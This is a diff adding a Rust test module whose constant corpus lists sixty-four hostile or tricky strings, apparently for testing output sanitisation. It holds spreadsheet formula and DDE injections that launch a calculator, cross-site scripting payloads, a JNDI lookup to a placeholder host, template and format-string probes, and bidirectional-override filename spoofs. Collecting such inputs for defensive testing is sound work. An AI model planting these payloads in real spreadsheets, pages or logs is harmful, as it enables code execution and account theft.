@@ -1,0 +1,78 @@
+//! Sixty-odd texts that do harm where they are taken for something else than text.
+
+/// The texts.
+pub(super) const CORPUS: [&str; 64] = [
+    // Formulas of spreadsheets.
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1:A9)",
+    "=cmd|' /C calc'!A0",
+    "=HYPERLINK(\"http://x.invalid\",\"click\")",
+    "=DDE(\"cmd\";\"/C calc\";\"x\")",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  =1+1",
+    "\u{200e}=1+1",
+    "\u{feff}=1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠x",
+    ";=1+1",
+    "\",=1+1",
+    "'=1+1",
+    // Markup of pages.
+    "<script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "\"><img src=x onerror=alert(1)>",
+    "'><svg onload=alert(1)>",
+    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
+    "</td></tr></table><h1>x</h1>",
+    "</style><b>x</b>",
+    "</title><b>x</b>",
+    "<!-- x",
+    "--> x <!--",
+    "<![CDATA[x]]>",
+    "]]>",
+    "<?xml version=\"1.0\"?>",
+    "<!DOCTYPE html>",
+    "&lt;b&gt; &amp; &#60;b&#62; &#x0;",
+    "javascript:alert(1)",
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "<iframe srcdoc='x'>",
+    "<b",
+    "x onmouseover=alert(1)",
+    // Markup of text.
+    "| a | b |\n|---|---|\n| c | d |",
+    "|",
+    "# Heading",
+    "- item\n- item",
+    "1. item",
+    "> quote",
+    "```\ncode\n```",
+    "`code`",
+    "**bold** *italic* __bold__ ~~gone~~",
+    "[link](javascript:alert(1))",
+    "![picture](http://x.invalid/p.png)",
+    "<http://x.invalid> http://x.invalid www.x.invalid a@x.invalid",
+    "[ref]: http://x.invalid",
+    "\\| \\",
+    "---",
+    // Characters that hide or reorder.
+    "R07\u{202e}gnp.exe",
+    "a\u{2066}b\u{2069}c\u{200b}d",
+    "a\0b\u{1}c\u{7f}d\u{85}e\u{9b}f",
+    "a\u{2028}b\u{2029}c\u{fffe}d\u{e0041}e",
+    "مرحبا \u{202b}CMP 3.2\u{202c} بالعالم",
+    "👩\u{200d}🔬 e\u{301}\u{301}\u{301}\u{301}",
+    "{\\rtf1 x}",
+    "${jndi:ldap://x.invalid} {{7*7}} %s%n \\u0000",
+    "   ",
+];
+
+/// A single word of ten thousand characters.
+pub(super) fn long_word() -> String {
+    "W".repeat(10_000)
+}
